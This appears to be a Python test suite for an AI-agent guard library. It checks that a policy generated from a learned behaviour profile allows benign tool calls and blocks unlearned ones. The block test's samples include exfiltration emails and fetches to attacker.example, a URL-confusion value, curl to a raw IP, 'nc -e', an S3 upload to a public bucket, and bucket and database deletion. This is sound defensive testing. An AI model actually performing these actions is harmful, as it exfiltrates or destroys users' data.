"""``agentguard profile to-policy``: a learned profile becomes a policy file the policy loader
accepts and that allows what was learned and stops what was not."""

from __future__ import annotations

import json
import random
from pathlib import Path
from typing import Any

import pytest
import yaml

import agentguard
from agentguard.baseline import Learner, Profile, save_profile
from agentguard.cli import main
from agentguard.events import CloudCall, EventContext, ProcessExec, ToolCall
from agentguard.policy import Policy
from tests.baseline.workload import Workload, run_in_guard


@pytest.fixture(scope="module")
def learned(tmp_path_factory: Any) -> Path:
    """A support agent's profile learned through the Guard, plus an archive tool that starts
    gzip and writes to one S3 bucket."""
    path = tmp_path_factory.mktemp("policy") / "support.json"
    guard = agentguard.instrument(service_name="support", mode="learn", profile=str(path),
                                  exporter="none", runtime_sensor=False,
                                  injection_detection=False)
    workload = Workload(21)
    for n in range(250):
        run_in_guard(guard, workload.conversation(), f"c{n}")
    agentguard.uninstrument()
    learner = Learner(Profile(agent="support"))
    rng = random.Random(1)
    for n in range(40):
        context = EventContext(agent="support", tool="archive")
        learner.learn(ToolCall(context=context, tool="archive",
                               arguments={"report": f"weekly-{n % 4}"}))
        learner.learn(ProcessExec(context=context, executable="/usr/bin/gzip",
                                  argv=["gzip", "-9", f"r{n}.csv"]))
        learner.learn(CloudCall(context=context, service="s3", operation="PutObject",
                                resource={"bucket": "reports-archive", "key": f"w/{n}"},
                                region=rng.choice(["eu-west-1"])))
        learner.learn(ToolCall(context=context, tool="archive", result="stored",
                               phase="result"))
    from agentguard.baseline import load_profile

    save_profile(load_profile(path).merge(learner.profile), path)
    return path


@pytest.fixture(scope="module")
def policy_file(learned: Path) -> Path:
    out = learned.parent / "policy.yaml"
    assert main(["profile", "to-policy", str(learned), "-o", str(out)]) == 0
    return out


def _ctx(tool: str | None) -> EventContext:
    return EventContext(agent="support", tool=tool, conversation_id="c", turn=1)


def _call(tool: str, **arguments: Any) -> ToolCall:
    return ToolCall(context=_ctx(tool), tool=tool, arguments=arguments)


def _decisions(policy: Policy, event: Any) -> list[Any]:
    return [d for d in policy.evaluate(event) or [] if d.action != "allow"]


def test_the_generated_policy_loads_and_is_readable(policy_file: Path) -> None:
    """The file is a valid policy for the policy loader, with comments a reviewer can follow."""
    text = policy_file.read_text()
    assert text.startswith("# Policy for agent 'support'")
    document = yaml.safe_load(text)
    assert document["version"] == 1
    assert "support_tools" in document["lists"]
    policy = Policy.from_file(policy_file)
    assert len(policy.rules) == len(document["rules"]) > 10
    assert all(rule["category"] == "baseline" for rule in document["rules"])
    assert "# lookup_customer: customer_id learned" in text


def test_the_policy_allows_held_out_benign_calls(policy_file: Path) -> None:
    """Tool calls and results from held-out benign conversations trigger no blocking rule."""
    policy = Policy.from_file(policy_file)
    workload = Workload(77)
    blocked = []
    for _ in range(300):
        for turn in workload.conversation():
            for item in turn:
                call = _call(item.tool, **item.args)
                result = ToolCall(context=_ctx(item.tool), tool=item.tool, arguments=item.args,
                                  result=json.dumps(item.result()), phase="result")
                for event in (call, result):
                    blocked += [d.rule_id for d in _decisions(policy, event) if d.action == "block"]
    assert blocked == []


@pytest.mark.parametrize(("event", "what"), [
    (_call("drop_database", confirm=True), "a tool never called while learning"),
    (_call("query_customers", query="city = Lyon and tier = gold", limit=50_000),
     "query_customers called with limit outside"),
    (ToolCall(context=_ctx("query_customers"), tool="query_customers", phase="result",
              arguments={"query": "*", "limit": 5},
              result=json.dumps([{"id": i} for i in range(50_000)])),
     "query_customers returned more than"),
    (_call("send_email", to="drop@attacker.example", subject="About your invoice copy",
           body="here"), "addressed to a domain never seen"),
    # An allowed address beside the new one, or the new one in a form the mail library reads.
    (_call("send_email", to="user7@example.com, drop@attacker.example",
           subject="About your invoice copy", body="here"), "addressed to a domain never seen"),
    (_call("send_email", to='"drop"@ATTACKER.example', subject="About your invoice copy",
           body="here"), "addressed to a domain never seen"),
    (_call("fetch_doc", url="https://attacker.example/payload"), "pointing to a host never seen"),
    (_call("fetch_doc", url="https://attacker.example\\@help.example.com/guides/1"),
     "pointing to a host never seen"),
    (ProcessExec(context=_ctx("lookup_customer"), executable="/usr/bin/curl",
                 argv=["curl", "http://203.0.113.9"]), "did something it never did"),
    (ProcessExec(context=_ctx("archive"), executable="/usr/bin/nc", argv=["nc", "-e"]),
     "a process never started while learning"),
    (CloudCall(context=_ctx("archive"), service="s3", operation="PutObject",
               resource={"bucket": "public-share"}), "a s3 bucket never touched"),
    (CloudCall(context=_ctx("archive"), service="s3", operation="DeleteBucket",
               resource={"bucket": "reports-archive"}), "a cloud call never made"),
])
def test_the_policy_blocks_what_was_never_learned(policy_file: Path, event: Any,
                                                  what: str) -> None:
    """A new tool, an argument out of bounds, bulk results, a new domain or host, a new process
    and a new bucket or cloud operation are blocked by the generated rules."""
    policy = Policy.from_file(policy_file)
    blocking = [d for d in _decisions(policy, event) if d.action == "block"]
    assert blocking, f"nothing blocked {event!r}"
    assert any(what in d.reason for d in blocking), [d.reason for d in blocking]
    assert all(d.category == "baseline" for d in blocking)


def test_instrument_enforces_the_generated_policy(policy_file: Path, guarded: Any) -> None:
    """instrument(policy=generated file) blocks the bulk query without the profile."""
    guard = guarded(mode="enforce", policy=str(policy_file), service_name="support",
                    runtime_sensor=False, injection_detection=False, builtin_rules=False)
    assert guard.baseline is None
    with agentguard.conversation("attack"), pytest.raises(agentguard.ToolCallBlocked) as info:
        guard.start_tool("query_customers", arguments={"query": "*", "limit": 50_000})
    assert info.value.finding.rule_id.startswith("BL-support-")
    guard.start_tool("query_customers", arguments={"query": "city = Lyon and tier = gold",
                                                   "limit": 3}).end_tool("[]")


def test_immature_parts_only_alert(tmp_path: Path) -> None:
    """A profile learned from a handful of calls gives a policy whose rules only alert."""
    learner = Learner(Profile(agent="support"))
    for n in range(3):
        learner.learn(_call("lookup_customer", customer_id=1000 + n))
    path = tmp_path / "p.json"
    save_profile(learner.profile, path)
    out = tmp_path / "policy.yaml"
    assert main(["profile", "to-policy", str(path), "-o", str(out), "--strict"]) == 0
    document = yaml.safe_load(out.read_text())
    assert document["rules"]
    assert {rule["action"] for rule in document["rules"]} == {"alert"}
    assert "still learning" in out.read_text()
    Policy.from_file(out)


def test_learned_names_that_look_like_patterns_or_lists_match_only_themselves(
        tmp_path: Path) -> None:
    """A rule's match.tool and match.agent are name patterns, and a single name of a list
    stands for that list: a tool learned as 'export[*]', 'get?' or 'shell_binaries' (a built-in
    list), or an agent named 'svc-*', gets rules that apply to exactly that tool and agent, so
    neither a rule that never fires (a glob that does not match its own name) nor one that
    fires for other tools."""
    agent = "svc-*"
    tools = ["export[*]", "get?", "shell_binaries"]
    learner = Learner(Profile(agent=agent))
    for n in range(40):
        for tool in tools:
            learner.learn(ToolCall(context=EventContext(agent=agent, tool=tool), tool=tool,
                                   arguments={"limit": n % 5 + 1}))
    source = tmp_path / "p.json"
    save_profile(learner.profile, source)
    out = tmp_path / "policy.yaml"
    assert main(["profile", "to-policy", str(source), "-o", str(out)]) == 0
    policy = Policy.from_file(out)

    def blocked(tool: str, limit: int, who: str = agent) -> bool:
        event = ToolCall(context=EventContext(agent=who, tool=tool), tool=tool,
                         arguments={"limit": limit})
        return any(d.action == "block" and "limit" in d.reason
                   for d in policy.evaluate(event) or [])

    for tool in tools:
        assert blocked(tool, 50_000) and not blocked(tool, 3)
    # The learned names are not patterns for other names, nor lists of other names.
    assert not blocked("exportX", 50_000) and not blocked("get1", 50_000)
    assert not blocked("bash", 50_000) and not blocked("export[*]", 50_000, who="svc-other")
